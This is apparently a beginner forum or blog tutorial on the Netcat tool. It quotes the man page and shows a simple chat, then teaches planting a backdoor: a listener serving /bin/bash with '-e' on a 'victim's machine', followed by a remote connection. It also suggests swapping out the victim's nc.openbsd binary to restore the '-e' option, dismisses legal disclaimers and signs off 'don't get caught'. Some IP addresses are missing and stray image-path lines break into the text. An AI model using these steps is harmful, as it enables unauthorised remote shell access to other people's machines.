![Image]( http://www.netcat.com.au/Documents/Netcat%20Logos/Netcat-Logo-black-500x250px.gif )

Introduction: So not too long ago I made a post in a forum on a completely different subject. Well, the topic I “was” going to cover is pretty interesting, big, and probably will be greatly appreciated by all of you guys, but, do to update in security and patches, that article will not be posted until a later time when I figure out a new way to do that attack. It’s pretty cool! Trust me! Until then I have something else.

I noticed that a lot of beginner questions are being posted in the forums and thought I’d cover a couple things that are useful, cool, and well… not in the articles.

Introduction #2: So I was messing around on the internet and came across a tool called Netcat. When I read about it I thought to myself, “This would have been totally great to know about back in my freshman year of high school!” I was failing Spanish 1, was doing tech work for my Spanish teacher. Facepalm big time guys! I’ve been messing with it for a couple of days and it’s some pretty cool stuff. It’s really good for reverse tcp attacks as well. Anyways, let’s talk about this tool.

It’s called Netcat! Also known as, “The tcp/ip swiss army knife” from many sources

You can enter this tool in two way by typing

Anyways here’s a description of this cool little tool.

No need for me to rewrite what’s already been written.

[Printed from Netcats man Page]

The nc (or netcat) utility is used for just about anything under the sun involving TCP or UDP. It
can open TCP connections, send UDP packets, listen on arbitrary TCP and UDP ports, do port scanning,
and deal with both IPv4 and IPv6. Unlike telnet(1), nc scripts nicely, and separates error messages
onto standard error instead of sending them to standard output, as telnet(1) does with some.

 Common uses include:

       ·   simple TCP proxies
       ·   shell-script based HTTP clients andservers
       ·   network daemon testing
       ·   a SOCKS or HTTP ProxyCommand for ssh(1)
       ·   and much, much more

Pretty cool stuff huh?! So, let’s get started…

A list of all command arguments can be found in the man page:
man netcat

Lesson 1:
Netcat as an instant messenger

To get warmed up and break into this tool we are going to do a little tcp instant messenging.

First let’s create the chat server:

netcat -l 8080

What we’re telling netcat to listen on port 8080

-l (lower case L) = listening

and then the port number.

After that we’re going to move to the other machine and type:

netcat -vv 8080

-v = Verbose -vv = double VerboseThis is going to create a connection to to the IP Address ( The IP is obviously going to be the address of the machine you’re connecting to, which would be the server in this case.

This is NOT Ip fyi… just a random IP Address from


you should then recieve this in your terminal

Connection to 8080 port [tcp/http-alt] succeeded!

Anything you type in either terminal from machine to machine will then appear right below that.

[b] Lesson 2: [b]
Remote Connection with Backdoor Shell aka… Hacking :)

Same thing as the first step. Start listening on the port you desire:

netcat -lvn 8080-e /bin/bash

What this is doing is listening on port 8080 and serving shell access to whoever connects through that port.

/bin/bash is the location of the shell on linux and if it’s going to be on windows cmd.exe yeah…
Note: netcat isn’t installed by default on windows :P

Now we are going to connect to the victims machine on our machine doing this:

nc -vn 8080

Same Thing as before, just connecting through port 8080 on

Once the connection is successful start typing your commands in and the results will appear below like they normally would.

Now a couple things before I go!

If you’re using Ubuntu this won’t work! Yes, netcat is installed by default but it is revised to cancel out the -e argument. Psht Security right?! Therefore when you are on the victims machine setting up the listening connection you will have to swap out the file nc.openbsd with the traditional version. You could simply do this though. I haven’t tried it yet but seems legit. Download the version including -e option and simply name that nc.openbsd and to speed up things create a bash script, prior to the attack (which I will speak about in another article), to do all of the work right away. Something like rm /bin/nc.openbsd | cp [locationofreplacement] blah blah blah…. y ‘know but that’s another story. It has to benc.openbsd because the nc and netcat commands in the /bin directory both are links to the actual nc.openbsd file to probably throw you off or something.

Have fun, be safe, this is all eductional and junk. What other disclaimers and legal info on other forums, youtube videos, etc just autofill here and all that fun stuff!

Have fun, Happy hacking, don’t get caught! I’ll probably do other netcat tutorials, since it’s such an awesome tool, once I learn more and use it more! Also other alternatives for when netcat isn’t present and other cool hacks/cracks.


p.s. If you have any requests feel free to message me or post a comment